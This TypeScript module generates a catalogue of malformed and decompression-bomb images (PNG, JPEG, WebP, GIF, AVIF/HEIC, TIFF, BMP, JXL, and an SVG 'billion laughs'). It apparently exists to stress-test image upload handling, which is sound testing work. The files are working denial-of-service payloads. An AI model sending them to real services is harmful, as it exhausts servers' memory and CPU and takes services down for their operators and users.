// Expensive pictures: endless chunks, segments, scans, frames and properties, and sizes that exceed memory.
import { deflateSync } from "node:zlib";
import type { Bomb } from "./bomb.ts";
import { fill, join, le16, le32, of, type Piece, text, u16, u32, zeros } from "./bytes.ts";
import { crc } from "./checksums.ts";

type Made = Record<string, (bytes: number) => Piece[]>;
const MIB = 1024 * 1024;

const SIGNATURE = Buffer.from("89504e470d0a1a0a", "hex");
const chunk = (name: string, ...parts: readonly Uint8Array[]): Uint8Array => {
  const body = join(text(name), ...parts);
  return join(u32(body.length - 4), body, u32(crc.png(body)));
};
const ihdr = (width: number, height: number, depth = 8, kind = 6) =>
  chunk("IHDR", u32(width), u32(height), of(depth, kind, 0, 0, 0));
const iend = chunk("IEND");
/** Some kilobytes that decompress to 16 MiB. */
const packedZeros = deflateSync(zeros(16 * MIB), { level: 9 });
const pixels = chunk("IDAT", packedZeros);
const PNG: Made = {
  "chunks of nothing": (bytes) => [SIGNATURE, ihdr(64, 64), fill(chunk("tEXt"), bytes), pixels, iend],
  "texts that become 16 MiB each": (bytes) => [
    SIGNATURE,
    ihdr(64, 64),
    fill(chunk("iTXt", text("k\0\u0001\0\0\0"), packedZeros), bytes),
    pixels,
    iend,
  ],
  "profiles that become 16 MiB each": (bytes) => [
    SIGNATURE,
    ihdr(64, 64),
    fill(chunk("iCCP", text("k\0\0"), packedZeros), bytes),
    pixels,
    iend,
  ],
  "a size of the most": () => [SIGNATURE, ihdr(0x7fff_ffff, 0x7fff_ffff, 16), pixels, iend],
  "16,384 by 16,384 pixels of nothing": (bytes) => [
    SIGNATURE,
    ihdr(16_384, 16_384),
    fill(pixels, Math.min(bytes, 2 * MIB)),
    iend,
  ],
  "data without end": (bytes) => [SIGNATURE, ihdr(30_000, 30_000), fill(chunk("IDAT"), bytes), iend],
  "frames of 2 billion": (bytes) => [
    SIGNATURE,
    ihdr(64, 64),
    chunk("acTL", u32(0x7fff_ffff), u32(0)),
    fill(chunk("fcTL", u32(0), u32(64), u32(64), zeros(14)), bytes),
    iend,
  ],
  "a chunk larger than the file": (bytes) => [SIGNATURE, ihdr(64, 64), fill(join(u32(0x7fff_ffff), text("tEXt")), bytes)],
  "heads again and again": (bytes) => [SIGNATURE, fill(ihdr(64, 64), bytes), iend],
  "signatures again and again": (bytes) => [fill(SIGNATURE, bytes)],
};

const segment = (mark: number, ...parts: readonly Uint8Array[]) => {
  const body = join(...parts);
  return join(of(0xff, mark), u16(body.length + 2), body);
};
const SOI = of(0xff, 0xd8);
const frame = (mark: number, width: number, height: number) =>
  segment(mark, of(8), u16(height), u16(width), of(3, 1, 0x22, 0, 2, 0x11, 0, 3, 0x11, 0));
const dqt = segment(0xdb, of(0), Buffer.alloc(64, 1));
const dht = segment(0xc4, of(0), of(0, 1, ...Array.from({ length: 14 }, () => 0)), of(0));
const scan = (from: number, to: number) => join(segment(0xda, of(1, 1, 0), of(from, to, 0)), zeros(2));
const EOI = of(0xff, 0xd9);
const JPEG: Made = {
  "segments of nothing": (bytes) => [SOI, fill(segment(0xe0), bytes), frame(0xc0, 64, 64), EOI],
  "notes of the writer": (bytes) => [SOI, fill(segment(0xfe, zeros(65_533)), bytes), frame(0xc0, 64, 64), EOI],
  "filling between marks": (bytes) => [SOI, fill(of(0xff), bytes), frame(0xc0, 64, 64).subarray(1), EOI],
  "scans of one picture": (bytes) => [SOI, dqt, frame(0xc2, 8192, 8192), dht, fill(scan(0, 0), bytes), EOI],
  "scans of the largest picture": (bytes) => [
    SOI,
    dqt,
    frame(0xc2, 65_535, 65_535),
    dht,
    fill(join(scan(0, 0), scan(1, 63)), bytes),
    EOI,
  ],
  "a height that comes later": (bytes) => [
    SOI,
    dqt,
    frame(0xc0, 65_535, 0),
    dht,
    scan(0, 63),
    fill(join(of(0xff, 0xdc), u16(4), u16(65_535)), bytes),
    EOI,
  ],
  "tables again and again": (bytes) => [SOI, fill(join(dqt, dht), bytes), frame(0xc0, 64, 64), EOI],
  "frames again and again": (bytes) => [SOI, dqt, fill(frame(0xc0, 64, 64), bytes), EOI],
  "restarts without end": (bytes) => [
    SOI,
    dqt,
    frame(0xc0, 4096, 4096),
    dht,
    segment(0xdd, u16(1)),
    segment(0xda, of(1, 1, 0), of(0, 63, 0)),
    fill(of(0xff, 0xd0, 0xff, 0xd1), bytes),
    EOI,
  ],
  "segments too short for their own size": (bytes) => [SOI, fill(join(of(0xff, 0xe1), u16(1)), bytes)],
  "pictures in pictures": (bytes) => [fill(join(SOI, segment(0xe1, text("Exif\0\0"))), bytes), EOI],
};

const webpOf = (...pieces: readonly Piece[]): Piece[] => [join(text("RIFF"), le32(0xffff_fffe), text("WEBP")), ...pieces];
const part = (name: string, ...parts: readonly Uint8Array[]) => {
  const body = join(...parts);
  return join(text(name), le32(body.length), body, zeros(body.length % 2));
};
const vp8x = part("VP8X", of(0x02, 0, 0, 0), Buffer.alloc(6, 0xff));
const WEBP: Made = {
  "chunks of nothing": (bytes) => webpOf(part("VP8X", zeros(4), of(63, 0, 0, 63, 0, 0)), fill(part("EXIF"), bytes)),
  "16 million by 16 million pixels": (bytes) => webpOf(vp8x, fill(part("ALPH"), Math.min(bytes, MIB))),
  "frames of nothing": (bytes) => webpOf(vp8x, part("ANIM", zeros(6)), fill(part("ANMF", zeros(16)), bytes)),
  "a lossless picture of 16,384 squared": (bytes) =>
    webpOf(part("VP8L", of(0x2f, 0xff, 0xff, 0xff, 0x0f), zeros(Math.min(bytes, MIB)))),
  "a chunk larger than the file": (bytes) => webpOf(fill(join(text("VP8 "), le32(0xffff_ffff)), bytes)),
};

const gifHead = (width: number, height: number) =>
  join(text("GIF89a"), le16(width), le16(height), of(0x80, 0, 0, 0, 0, 0, 255, 255, 255));
const image = (width: number, height: number) => join(of(0x2c), zeros(4), le16(width), le16(height), of(0, 2, 2, 0x44, 1, 0));
const control = of(0x21, 0xf9, 4, 0, 1, 0, 0, 0);
const GIF: Made = {
  "frames of one pixel": (bytes) => [gifHead(1, 1), fill(join(control, image(1, 1)), bytes), of(0x3b)],
  "frames of the largest size": (bytes) => [gifHead(65_535, 65_535), fill(join(control, image(65_535, 65_535)), bytes), of(0x3b)],
  "blocks of one byte": (bytes) => [gifHead(64, 64), of(0x21, 0xfe), fill(of(1, 0x20), bytes), of(0, 0x3b)],
  "extensions of nothing": (bytes) => [gifHead(64, 64), fill(of(0x21, 0xff, 0), bytes), image(64, 64), of(0x3b)],
  "a frame without end": (bytes) => [
    gifHead(64, 64),
    of(0x2c),
    zeros(4),
    le16(64),
    le16(64),
    of(0, 2),
    fill(join(of(255), zeros(255)), bytes),
  ],
};

const box = (name: string, ...parts: readonly Uint8Array[]) => {
  const body = join(...parts);
  return join(u32(8 + body.length), text(name), body);
};
const full = (name: string, ...parts: readonly Uint8Array[]) => box(name, u32(0), ...parts);
const opened = (name: string, head: Uint8Array, piece: Piece, bytes: number): Piece[] => [
  join(u32(bytes + 8 + head.length), text(name), head),
  piece,
];
const ftypOf = (brand: string) => box("ftyp", text(brand), u32(0), text(`mif1${brand}`));
const hdlr = full("hdlr", u32(0), text("pict"), zeros(13));
const ispe = full("ispe", u32(64), u32(64));
const metaHead = (brand: string, bytes: number) => [
  ftypOf(brand),
  join(u32(Math.min(0xffff_ffff, bytes + 200)), text("meta"), u32(0), hdlr, full("pitm", u16(1))),
];
const exactly = (unit: Uint8Array, bytes: number): [Piece, number] => {
  const times = Math.max(1, Math.floor(bytes / unit.length));
  return [{ repeat: unit, times }, times * unit.length];
};
const heifMade = (brand: string): Made => ({
  properties: (bytes) => {
    const [piece, size] = exactly(ispe, bytes);
    return [...metaHead(brand, size), ...opened("iprp", join(u32(size + 8), text("ipco")), piece, size)];
  },
  associations: (bytes) => {
    const [piece, size] = exactly(join(u16(1), of(255), Buffer.alloc(255, 1)), bytes);
    return [
      ...metaHead(brand, size),
      ...opened("iprp", join(box("ipco", ispe), u32(size + 16), text("ipma"), u32(0), u32(0xffff_ffff)), piece, size),
    ];
  },
  "places of items": (bytes) => {
    const [piece, size] = exactly(join(u16(1), u16(0), u16(1), u32(0), u32(0xffff_ffff)), bytes);
    return [...metaHead(brand, size), ...opened("iloc", join(u32(0), of(0x44, 0x00), u16(0xffff)), piece, size)];
  },
  "extents of one item": (bytes) => {
    const [piece, size] = exactly(join(u32(0), u32(0xffff_ffff)), bytes);
    return [
      ...metaHead(brand, size),
      ...opened("iloc", join(u32(0), of(0x44, 0x00), u16(1), u16(1), u16(0), u16(0xffff)), piece, size),
    ];
  },
  "entries of items": (bytes) => {
    const [piece, size] = exactly(box("infe", of(2, 0, 0, 0), u16(1), u16(0), text("av01"), zeros(1)), bytes);
    return [...metaHead(brand, size), ...opened("iinf", join(u32(0), u16(0xffff)), piece, size)];
  },
  "references in circles": (bytes) => {
    const [piece, size] = exactly(box("dimg", u16(1), u16(2), u16(1), u16(1)), bytes);
    return [...metaHead(brand, size), ...opened("iref", u32(0), piece, size)];
  },
  "meta in meta": (bytes) => {
    const depth = Math.floor(Math.min(bytes, 4 * MIB) / 12);
    const made = Buffer.alloc(depth * 12);
    for (let n = 0; n < depth; n += 1) {
      made.writeUInt32BE((depth - n) * 12, n * 12);
      made.write("meta", n * 12 + 4, "latin1");
    }
    return [ftypOf(brand), made];
  },
  "a grid of 65,536 pictures": (bytes) => {
    const [piece, size] = exactly(full("ispe", u32(0xffff_ffff), u32(0xffff_ffff)), Math.min(bytes, MIB));
    return [
      ...metaHead(brand, size),
      ...opened("iprp", join(u32(size + 8), text("ipco")), piece, size),
      box("idat", of(0, 1, 255, 255), u32(0xffff_ffff), u32(0xffff_ffff)),
    ];
  },
});

const SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">';
const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("");
const OTHERS: Made = {
  "svg, entities of entities": () => [
    text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>${SVG_OPEN}<text>&l12;</text></svg>`),
  ],
  "svg, groups in groups": (bytes) => [text(SVG_OPEN), fill(text("<g>"), bytes)],
  "svg, notes without end": (bytes) => [text("<!--"), fill(text("- - -->  <!-- "), bytes), text(`-->${SVG_OPEN}</svg>`)],
  "svg, attributes without end": (bytes) => [text("<svg "), fill(text('a="b" '), bytes), text('width="64" height="64"/>')],
  "svg, white space without end": (bytes) => [text("<svg"), fill(text(" "), bytes)],
  "svg, a declaration without end": (bytes) => [text("<?xml version='1.0'?><!DOCTYPE svg ["), fill(text('<!ENTITY a "'), bytes)],
  "tiff, directories that lead to each other": (bytes) => [
    join(text("II*\0"), le32(8)),
    fill(join(le16(1), le16(256), le16(4), le32(1), le32(64), le32(8)), bytes),
  ],
  "tiff, entries without end": (bytes) => [
    join(text("II*\0"), le32(8), le16(0xffff)),
    fill(join(le16(256), le16(4), le32(0xffff_ffff), le32(8)), bytes),
  ],
  "bmp, a size below nothing": (bytes) => [
    join(
      text("BM"),
      le32(bytes),
      zeros(4),
      le32(54),
      le32(40),
      le32(0x7fff_ffff),
      le32(0x8000_0001),
      le16(1),
      le16(32),
      zeros(24),
    ),
    fill(zeros(1024), Math.min(bytes, MIB)),
  ],
  "jxl, boxes of nothing": (bytes) => [
    join(u32(12), text("JXL "), Buffer.from("0d0a870a", "hex"), box("ftyp", text("jxl "), u32(0), text("jxl "))),
    fill(box("Exif"), bytes),
  ],
};

const named = (family: string, mime: string, made: Made): Bomb[] =>
  Object.entries(made).map(([name, make]) => ({ name: family === "" ? name : `${family}, ${name}`, field: "image", mime, make }));
export const PICTURES: readonly Bomb[] = [
  ...named("png", "image/png", PNG),
  ...named("jpeg", "image/jpeg", JPEG),
  ...named("webp", "image/webp", WEBP),
  ...named("gif", "image/gif", GIF),
  ...named("avif", "image/avif", heifMade("avif")),
  ...named("heic", "image/heic", heifMade("heic")),
  ...named("", "image/svg+xml", OTHERS),
];
